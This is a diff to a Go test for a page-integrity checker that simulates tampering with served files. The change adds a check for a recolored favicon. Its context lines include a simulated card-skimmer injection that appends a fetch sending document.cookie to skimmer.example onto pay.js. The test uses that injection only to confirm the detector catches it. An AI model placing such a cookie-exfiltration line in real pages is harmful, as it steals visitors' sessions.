@@ -116,7 +116,7 @@ func TestPageIntegrity(t *testing.T) {
 		t.Fatal(err)
 	}
 	resp.Body.Close()
-	if d := pagecheck.Compare(served, want); d != nil || len(served.Scripts) != 1 || len(served.Styles) != 1 ||
+	if d := pagecheck.Compare(served, want); d != nil || len(served.Scripts) != 1 || len(served.Styles) != 1 || len(served.Icons) != 1 ||
 		!strings.HasPrefix(served.Scripts[0].SHA384, "sha384-") || served.Headers["Content-Security-Policy"] == "" {
 		t.Fatalf("served manifest %+v: %v", served, d)
 	}
@@ -139,6 +139,8 @@ func TestPageIntegrity(t *testing.T) {
 			r.Header.Del("X-Frame-Options")
 		case strings.HasPrefix(r.Request.URL.Path, "/static/pay.js"):
 			s += "\n;fetch('https://skimmer.example/'+document.cookie)"
+		case strings.HasPrefix(r.Request.URL.Path, "/static/favicon.svg"):
+			s = strings.Replace(s, "#0b57d0", "#d00b0b", 1)
 		}
 		r.Body = io.NopCloser(strings.NewReader(s))
 		r.ContentLength = int64(len(s))
@@ -158,6 +160,7 @@ func TestPageIntegrity(t *testing.T) {
 		"header Content-Security-Policy is",
 		"header X-Frame-Options is missing",
 		"/static/pay.js?v=",
+		"icon /static/favicon.svg?v=",
 	} {
 		if !strings.Contains(all, w) {
 			t.Errorf("tampering not named: %q in\n%s", w, all)
